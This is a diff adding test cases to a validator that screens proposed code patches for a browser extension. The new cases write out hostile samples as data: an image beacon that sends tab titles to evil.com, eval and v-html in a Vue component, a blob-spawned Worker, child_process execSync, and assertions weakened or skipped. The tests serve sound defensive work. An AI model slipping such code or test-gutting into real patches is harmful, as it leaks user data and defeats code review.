@@ -26,6 +26,14 @@ const HTML = 'src/popup/popup.html';
 const TSX = 'src/popup/popup.tsx';
 
 const badge = 'export function readBadge(tab) {\n';
+const VUE = `<template>
+  <p>{{ count }}</p>
+</template>
+
+<script>
+export default { data: () => ({ count: 0 }) };
+</script>
+`;
 /** Hostile code slipped in beside a plausible fix of the reported bug. */
 function withFix(extra: string, path = BG): Candidate {
   return candidate([edit(path, badge, `${badge}  ${extra}\n  if (!tab.title) return '';\n`)]);
@@ -159,6 +167,11 @@ const cases: Case[] = [
       candidate([{ path: 'src\\background\\messaging.js', before: '', after: 'x\n' }]),
   },
   {
+    name: 'a trailing dot that Windows drops (manifest.json.)',
+    expected: 'path_invalid',
+    candidate: () => candidate([{ path: 'manifest.json.', before: '', after: '{}\n' }]),
+  },
+  {
     name: 'a NUL in the path',
     expected: 'path_invalid',
     candidate: () =>
@@ -237,6 +250,12 @@ const cases: Case[] = [
     name: 'a link in an added comment (for the PR to carry)',
     expected: 'added_url',
     candidate: () => withFix('// see https://evil.example.com/PWNED for details'),
+  },
+  {
+    name: 'a URL split across concatenated literals (an image beacon)',
+    expected: 'added_url',
+    candidate: () =>
+      withFix("new Image().src = 'https:' + '/' + '/' + 'evil' + '.com/?d=' + tab.title;"),
   },
   // --- code that runs strings or remote code ------------------------------------------------------
   {
@@ -324,6 +343,39 @@ const cases: Case[] = [
       withFix(
         "chrome.userScripts.execute({ target: { tabId: tab.id }, js: [{ code: 'PWNED' }] });",
       ),
+  },
+  {
+    name: 'a worker started from a blob of fetched code',
+    expected: 'dangerous_code',
+    candidate: () => withFix('new Worker(URL.createObjectURL(new Blob([tab.PWNED])));'),
+  },
+  {
+    name: 'v-html and eval in a Vue component (no parser: read by spelling)',
+    expected: 'dangerous_code',
+    context: () =>
+      context({
+        editablePaths: [...EDITABLE, 'src/popup/App.vue'],
+        files: {
+          ...context().files,
+          'src/popup/App.vue': {
+            path: 'src/popup/App.vue',
+            content: VUE,
+            blobSha: 'v',
+            role: 'frame',
+          },
+        },
+      }),
+    candidate: () =>
+      candidate([
+        {
+          path: 'src/popup/App.vue',
+          before: VUE,
+          after: VUE.replace('<p>{{ count }}</p>', '<p v-html="note.PWNED"></p>').replace(
+            'count: 0',
+            'count: eval(PWNED)',
+          ),
+        },
+      ]),
   },
   {
     name: 'setTimeout with a string',
@@ -443,6 +495,30 @@ const cases: Case[] = [
     candidate: () =>
       candidate([edit(TEST, "test('readBadge shortens", "test.only('readBadge shortens")]),
   },
+  {
+    name: 'an assertion weakened to one on constants',
+    expected: 'deleted_test',
+    candidate: () =>
+      candidate([
+        edit(
+          TEST,
+          "  assert.equal(readBadge({ title: 'short' }), 'short');\n",
+          '  assert.ok(true);\n',
+        ),
+      ]),
+  },
+  {
+    name: 'a test that skips itself at run time (t.skip())',
+    expected: 'deleted_test',
+    candidate: () =>
+      candidate([
+        edit(
+          TEST,
+          "test('readBadge keeps short titles', () => {\n",
+          "test('readBadge keeps short titles', (t) => {\n  t.skip();\n",
+        ),
+      ]),
+  },
   // --- personal data (T5) ----------------------------------------------------------------------------
   {
     name: 'an e-mail address in a comment',
@@ -476,6 +552,18 @@ const cases: Case[] = [
           BG,
           "import { loadNotes } from '../lib/storage.js';\n",
           "import { loadNotes } from '../lib/storage.js';\nimport lodash from 'lodahs';\n",
+        ),
+      ]),
+  },
+  {
+    name: 'child_process reached through process.mainModule.require',
+    expected: 'new_dependency',
+    candidate: () =>
+      candidate([
+        edit(
+          TEST,
+          "test('readBadge keeps",
+          "test('x', () => {\n  process.mainModule.require('child_process').execSync('PWNED');\n  assert.ok(readBadge({ title: 'x' }));\n});\n\ntest('readBadge keeps",
         ),
       ]),
   },
